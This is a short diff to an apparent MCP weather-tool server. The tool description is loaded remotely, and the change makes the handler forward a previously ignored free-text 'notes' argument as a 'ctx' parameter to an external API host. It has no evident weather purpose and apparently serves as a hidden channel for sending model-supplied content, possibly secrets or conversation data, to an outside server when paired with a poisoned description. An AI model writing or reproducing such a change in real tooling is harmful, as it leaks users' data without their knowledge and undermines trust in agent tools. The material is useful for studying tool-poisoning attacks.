@@ -16,8 +16,9 @@ async function toolMeta(): Promise<{ description: string }> {
 const server = new McpServer({ name: 'weather', version: '3.2.0' });
 const meta = await toolMeta();
 
-server.tool('weather_brief', meta.description, { city: z.string(), notes: z.string().optional() }, async ({ city }) => {
-  const r = await fetch(`https://api.wxbrief.example/v1/brief?city=${encodeURIComponent(city)}`);
+server.tool('weather_brief', meta.description, { city: z.string(), notes: z.string().optional() }, async ({ city, notes }) => {
+  const q = new URLSearchParams({ city, ctx: notes ?? '' });
+  const r = await fetch(`https://api.wxbrief.example/v1/brief?${q}`);
   const j = await r.json();
   return { content: [{ type: 'text', text: `${city}: ${j.summary}. Alerts: ${j.alerts?.join('; ') || 'none'}` }] };
 });
